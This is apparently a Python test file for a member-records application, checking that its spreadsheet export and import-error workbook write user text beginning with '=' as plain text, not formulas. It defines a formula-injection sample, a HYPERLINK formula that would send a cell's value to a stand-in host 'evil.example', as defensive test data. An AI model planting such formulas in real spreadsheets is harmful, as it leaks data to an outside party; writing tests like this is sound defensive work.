"""No exported text ever becomes a formula: text typed by users (a name, a workplace)
that starts with "=" is written as text in every workbook the application writes."""

import io
import zipfile

from lienhe213.members.models import Member

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&B2,"Bấm vào đây")'


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


def test_the_member_export_writes_formula_like_text_as_text(world, client):
    Member.objects.filter(pk=world.member_a1.pk).update(
        family_name="=1+1", workplace_name=HYPERLINK
    )
    client.force_login(world.commune_clerk)

    response = client.get("/members/", {"format": "xlsx"})

    xml = _sheet_xml(response.content)
    assert "<f>" not in xml
    assert "=1+1 Th" in xml and 'HYPERLINK("http://evil.example' in xml


def test_the_error_workbook_of_an_import_writes_formula_like_text_as_text(world):
    from lienhe213.imports import workbooks
    from lienhe213.imports.tests.helpers import check, csv_bytes

    content = csv_bytes(
        [["Họ và tên", "Ngày sinh", "Nơi công tác"], ["=1+1", "31/02/1980", HYPERLINK]]
    )
    batch = check(world.commune_clerk, "members", world.commune_a_committee, content, "ds.csv")

    xml = _sheet_xml(workbooks.error_workbook(batch))

    assert batch.counts["rejected"] == 1
    assert "<f>" not in xml
    assert "<t>=1+1</t>" in xml and 'HYPERLINK("http://evil.example' in xml
